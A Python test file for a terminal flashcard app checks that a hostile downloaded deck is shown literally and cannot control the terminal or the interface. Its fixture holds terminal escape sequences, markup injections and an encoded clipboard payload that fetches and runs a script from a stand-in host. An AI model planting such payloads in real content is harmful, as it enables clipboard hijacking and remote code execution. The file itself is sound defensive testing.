"""A deck from the web cannot drive the terminal through the TUI: escape sequences are gone by the
time a card is shown, and text that looks like Rich/Textual markup shows as written.
"""

from __future__ import annotations

from tui_paths import one_kind

from studykit.deck.loader import load_decks
from studykit.tui.screens.study import StudyScreen

HOSTILE = r"""
id: web
title: "[bold]Web[/bold] deck \e]0;pwned\a"
description: Downloaded.
topics:
  - id: web-t
    title: "[link=http://evil.example]Topic[/link]"
cards:
  - id: web-1
    kind: flashcard
    topic: web-t
    front: "Copy this \e]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\a [bold]now[/bold]"
    back: "\e[2J[red]wiped[/red]"
    explanation: "[@click=app.quit]quit[/]"
"""


def shown(widget) -> str:
    """The text a widget draws on the screen, line by line."""
    return "\n".join(widget.render_line(y).text for y in range(widget.size.height))


async def test_hostile_card_text_shows_literally_and_without_escapes(make_app, tmp_path):
    path = tmp_path / "web.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    load = load_decks([path])
    assert [p.card for p in load.warnings] == [None, "web-1"]  # the deck title, the card
    app = make_app(load)
    async with app.run_test(size=(100, 30)) as pilot:
        assert "[bold]Web[/bold] deck ]0;pwned" in shown(app.screen.query_one("#decks"))
        topics = shown(app.screen.query_one("#topics"))
        assert "[link=http://evil.example]Topic[/link]" in topics
        assert "Topics of [bold]Web[/bold]" in shown(app.screen.query_one("#topics-title"))

        await pilot.press("enter")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, StudyScreen)
        body = str(screen.view.query_one(".card-body").content)
        assert "Copy this ]52;c;" in body and "[bold]now[/bold]" in body
        await pilot.press("space")  # flip
        await pilot.pause()
        body = str(screen.view.query_one(".card-body").content)
        assert "[2J[red]wiped[/red]" in body
        verdict = str(screen.query_one("#verdict").content)
        assert "[@click=app.quit]quit[/]" in verdict
        for text in (body, verdict):
            assert "\x1b" not in text and "\x07" not in text
        await pilot.press("3")
        await pilot.pause()
        assert app.is_running  # the "click" markup did not quit


async def test_the_answer_box_takes_at_most_max_typed_characters(make_app, tiny_load):
    from textual.widgets import Input

    from studykit.deck.model import MAX_TYPED

    app = make_app(one_kind(tiny_load, "short"))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.press("enter")
        await pilot.pause()
        screen = app.screen
        assert screen.presented.card.kind == "short"
        box = screen.view.query_one(Input)
        box.insert_text_at_cursor("x" * (MAX_TYPED + 1))
        assert box.value == ""  # refused, not silently cut somewhere the learner cannot see
        box.insert_text_at_cursor("x" * MAX_TYPED)
        assert len(box.value) == MAX_TYPED
